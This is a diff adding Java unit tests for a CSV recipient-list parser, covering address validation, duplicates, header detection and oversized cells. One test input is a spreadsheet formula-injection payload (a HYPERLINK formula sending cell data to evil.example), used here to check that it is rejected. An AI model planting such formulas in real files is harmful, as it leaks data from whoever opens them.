@@ -33,10 +33,67 @@ class RecipientCsvTest {
         assertThat(p.recipients().get(1).variables()).isEqualTo(Map.of("Name", "Bob, Jr.", "Plan", "Silver \"plus\""));
         assertThat(p.recipients().get(2).line()).isEqualTo(8);
         assertThat(p.errors()).extracting(RowError::line).containsExactly(4, 5, 7);
-        assertThat(p.errors().get(0).problem()).contains("\"not-an-address\" is not an email address");
+        assertThat(p.errors().get(0).problem()).startsWith("Not an address: ");
         assertThat(p.errors().get(0).text()).isEqualTo("Carl, not-an-address, Gold");
         assertThat(p.errors().get(1).problem()).contains("Expected 3 columns, found 2");
         assertThat(p.errors().get(2).problem()).contains("more than once");
+    }
+
+    @Test
+    void addressesGetTheAddressCheckersSyntaxCheckAndItsReasons() {
+        Parsed p = RecipientCsv.parse(Sheet.ofLines(List.of(
+                "ann@example.net",
+                "jane..doe@example.net",
+                "=hyperlink(\"http://evil.example/?\"&a1;\"click\")@evil.example",
+                "bob@acme_corp.com",
+                "ann@EXAMPLE.net",
+                "jörg@bücher.ch",
+                "jorg@xn--bcher-kva.ch",
+                "JORG@BÜCHER.ch",
+                "\"john doe\"@example.net")));
+        assertThat(p.recipients())
+                .extracting(Recipient::address)
+                .containsExactly("ann@example.net", "jörg@bücher.ch", "jorg@xn--bcher-kva.ch");
+        assertThat(p.errors()).extracting(RowError::line).containsExactly(2, 3, 4, 5, 8, 9);
+        // The same words as the Check-addresses tool and the suppression import.
+        assertThat(p.errors().subList(0, 3))
+                .allSatisfy(e -> assertThat(e.problem()).startsWith("Not an address: "));
+        assertThat(p.errors().get(1).problem()).endsWith("It looks like a spreadsheet formula.");
+        // Duplicates are found in the checker's form: domain case and Unicode against A-labels.
+        assertThat(p.errors().get(3).problem()).contains("more than once");
+        assertThat(p.errors().get(4).problem()).contains("more than once");
+        // Valid for RFC 5322, but not a form Mailroom sends to: said in words, not dropped silently.
+        assertThat(p.errors().get(5).problem()).startsWith("Mailroom cannot send to this form of address");
+    }
+
+    @Test
+    void theAddressColumnIsFoundByTheHeadersPeopleGiveIt() {
+        for (String h : List.of("Email Address", "E-mail", "MAIL", "email_address", "Courriel")) {
+            Parsed p = RecipientCsv.parse(new Sheet(
+                    List.of(new Row(1, List.of("Name", h)), new Row(2, List.of("Ann", "ann@example.net"))), List.of()));
+            assertThat(p.errors()).as(h).isEmpty();
+            assertThat(p.recipients()).as(h).singleElement().satisfies(r -> {
+                assertThat(r.address()).isEqualTo("ann@example.net");
+                assertThat(r.variables()).isEqualTo(Map.of("Name", "Ann"));
+            });
+        }
+        // No header: the column whose first row holds an @.
+        Parsed p = RecipientCsv.parse(new Sheet(
+                List.of(new Row(1, List.of("Ann", "ann@example.net")), new Row(2, List.of("Bob", "bob@example.net"))),
+                List.of()));
+        assertThat(p.recipients()).extracting(Recipient::address).containsExactly("ann@example.net", "bob@example.net");
+    }
+
+    @Test
+    void aHugeCellIsClippedInWhatIsShown() {
+        String huge = "x".repeat(10_000_000);
+        Parsed p = RecipientCsv.parse(new Sheet(
+                List.of(new Row(1, List.of("email", "note")), new Row(2, List.of(huge, "n"))), List.of()));
+        assertThat(p.errors()).singleElement().satisfies(e -> {
+            assertThat(e.line()).isEqualTo(2);
+            assertThat(e.text()).hasSize(RecipientCsv.MAX_SHOWN).endsWith("…");
+            assertThat(e.problem()).hasSizeLessThan(200);
+        });
     }
 
     @Test
